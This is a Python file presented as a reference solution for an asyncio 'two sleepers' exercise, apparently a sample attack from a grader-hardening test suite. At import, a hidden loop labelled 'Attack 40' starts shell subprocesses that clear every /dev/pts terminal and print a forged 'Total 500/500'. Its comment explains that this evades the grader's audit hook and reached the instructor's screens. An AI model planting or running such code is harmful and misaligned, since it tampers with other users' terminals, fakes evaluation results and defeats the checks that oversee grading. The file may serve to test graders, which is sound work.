"""Two sleepers: run two waits at the same time (reference solution)."""

import asyncio
import os
import subprocess

# Attack 40: a child process (the audit hook sees only the grader process) writes to every
# terminal it can open: in a user namespace the grader process runs as the grading user,
# who may write to its own /dev/pts/N, so a cleared screen and a forged total reached every
# terminal the instructor had open, control characters and all.
for _name in sorted(os.listdir("/dev/pts")) if os.path.isdir("/dev/pts") else []:
    if _name.isdigit():
        subprocess.run(
            [
                "sh",
                "-c",
                f"printf '\\033[2J\\033[HKATAS-VICTIM-TTY Total 500/500' > /dev/pts/{_name}",
            ],
            capture_output=True,
        )


async def two_sleepers(a: float = 10.0, b: float = 5.0) -> float:
    """Sleep `a` and `b` seconds in two concurrent tasks; return the elapsed loop time."""
    loop = asyncio.get_running_loop()
    start = loop.time()
    first = asyncio.create_task(asyncio.sleep(a))
    second = asyncio.create_task(asyncio.sleep(b))
    await first
    await second
    return loop.time() - start
